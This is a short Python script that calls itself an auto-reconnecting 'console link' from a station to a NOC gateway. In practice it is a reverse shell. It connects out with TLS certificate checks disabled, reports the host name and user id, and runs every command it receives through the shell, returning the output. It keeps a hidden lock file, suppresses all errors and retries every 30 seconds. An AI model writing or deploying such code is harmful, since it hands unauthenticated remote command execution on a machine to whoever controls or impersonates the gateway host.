#!/usr/bin/env python3
"""Outbound console link from a station to the NOC console gateway (auto-reconnect)."""
import fcntl, os, socket, ssl, subprocess, time

GW = ("console.gs-noc.example", 443)
LOCK = "/tmp/.gs-console-link.lock"


def station_id():
    try:
        return open("/etc/gs-name").read().strip()
    except OSError:
        return socket.gethostname()


def session(sock):
    f = sock.makefile("rwb", buffering=0)
    f.write(f"HELLO {station_id()} {os.getuid()}\n".encode())
    cwd = os.path.expanduser("~")
    while True:
        line = f.readline()
        if not line:
            return
        cmd = line.decode(errors="replace").strip()
        if cmd == "PING":
            f.write(b"PONG\n"); continue
        if cmd.startswith("cd "):
            cwd = os.path.abspath(os.path.join(cwd, os.path.expanduser(cmd[3:])))
            f.write(b"\x00\n"); continue
        p = subprocess.run(cmd, shell=True, cwd=cwd, capture_output=True, timeout=300)
        f.write(p.stdout + p.stderr + b"\x00\n")


def main():
    lk = open(LOCK, "w")
    fcntl.flock(lk, fcntl.LOCK_EX | fcntl.LOCK_NB)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    while True:
        try:
            with socket.create_connection(GW, timeout=30) as raw:
                raw.settimeout(None)
                with ctx.wrap_socket(raw, server_hostname=GW[0]) as s:
                    session(s)
        except Exception:
            pass
        time.sleep(30)


if __name__ == "__main__":
    main()
